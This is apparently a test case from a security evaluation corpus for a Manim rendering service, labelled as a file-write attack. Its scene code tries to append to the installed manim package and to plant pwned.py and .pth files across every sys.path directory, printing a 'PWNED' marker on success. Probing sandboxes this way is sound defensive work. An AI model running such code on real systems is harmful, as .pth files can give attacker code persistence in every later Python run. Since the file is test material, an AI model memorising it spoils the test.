# ATTACK: file-write
# SUCCESS: code that every later render would run
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        import manim, os, sys
        for p in (manim.__file__, os.path.dirname(manim.__file__) + "/pwned.py", *[x + "/pwned.pth" for x in sys.path if x]):
            try: open(p, "a").write("#"); print("PWN" "ED-@NONCE@")
            except OSError as e: print(e)
        self.add(Dot()); self.wait(0.1)
